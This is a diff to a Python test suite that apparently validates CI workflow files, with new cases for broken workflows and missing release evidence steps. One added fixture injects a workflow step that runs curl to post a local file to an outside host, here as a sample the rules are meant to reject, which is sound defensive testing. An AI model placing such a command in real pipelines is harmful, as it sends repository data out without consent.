@@ -61,6 +61,10 @@ OURS: dict[str, Break] = {
     "a paid plan in a private repository": job("run: make upload-sarif"),
     "hands a password to every registry": job("env: {TRIVY_PASSWORD: x}", "run: make scan-image"),
     "has one commit": job("run: make scan"),
+    "sends something by itself": job("run: make lint && curl --data @x https://example.com"),
+    "depends on what a person types in": lambda text: replace(
+        r"^on:$(?:\n(?: .*)?$)+", "on:\n  workflow_dispatch:\n    inputs: {flags: {type: string}}\n"
+    )(re.sub(r"^name: promote$", "name: other", text, flags=re.MULTILINE)),
 }
 
 
@@ -104,6 +108,12 @@ def test_our_rules_reject_a_broken_copy_of_each(fault: str) -> None:
 def test_a_job_that_cannot_read_a_private_package_is_found(workflow: str, pattern: str) -> None:
     text = replace(pattern, "")(TEXTS[workflow])
     assert "cannot read a private package" in " ".join(faults(text))
+
+
+@pytest.mark.parametrize("target", ["sbom", "sign", "verify"])
+def test_a_release_without_its_evidence_is_found(target: str) -> None:
+    text = re.sub(rf"\bmake {target}\b", "make image", TEXTS["build-image.yaml"])
+    assert f"without `make {target}`" in " ".join(faults(text))
 
 
 @pytest.mark.parametrize("audit", ZIZMOR)
